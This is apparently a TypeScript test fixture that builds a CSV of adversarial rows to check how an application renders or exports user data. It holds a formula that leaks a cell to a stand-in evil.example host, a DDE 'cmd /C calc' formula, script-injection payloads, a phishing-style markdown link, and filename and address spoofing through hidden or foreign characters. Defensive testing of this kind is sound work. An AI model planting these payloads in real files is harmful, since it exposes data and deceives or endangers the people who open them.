/** A file that tries to be more than text wherever it is shown: in a spreadsheet, in markdown, in a browser, in a terminal. */
import { primaryEmail, type User } from '../administration/user.ts'
import { csvFile } from '../csv-file.ts'

const LONG = 20_000
const RIGHT_TO_LEFT = '\u202E'
const ZERO_WIDTH = '\u200B'
const CYRILLIC_A = '\u0430'

/** What stands beside a good address; the rows are planned all the same. */
const NOTES: readonly string[] = [
  '=HYPERLINK("https://evil.example/?leak="&A1,"Salaries")',
  '<@all> **URGENT** [approve here](https://evil.example) `code` | cell |',
  '<img src=x onerror="alert(document.domain)"><script>alert(1)</script>',
  `@SUM(1+1)*cmd|' /C calc'!A0 ${RIGHT_TO_LEFT}gpj.exe`,
  `bell \u0007, escape \u001B[31mred\u001B[0m, zero${ZERO_WIDTH}width`,
  'A very long cell. '.repeat(LONG).slice(0, LONG),
]

/** Needs eight people or more. */
export const hostileFile = (people: readonly User[]): string => {
  const victims = people.slice(0, NOTES.length)
  const other = people.slice(NOTES.length).map(primaryEmail)
  const lookedLike = other.find((address) => /a.*@/.test(address)) ?? ''
  return csvFile(
    '',
    ['email', 'name', 'note'],
    [
      ...victims.map((user, place) => [primaryEmail(user), `${user.displayName} <b>*_~`, NOTES[place] ?? '']),
      [`=cmd|' /C calc'!A0`, 'Formula as an address', ''],
      ['<@all>@example.com', 'Mention as an address', ''],
      [`${other[0]}${ZERO_WIDTH}`, 'Address with a hidden character', ''],
      [lookedLike.replace('a', CYRILLIC_A), 'Address with one letter of another alphabet', ''],
    ],
  ).content
}
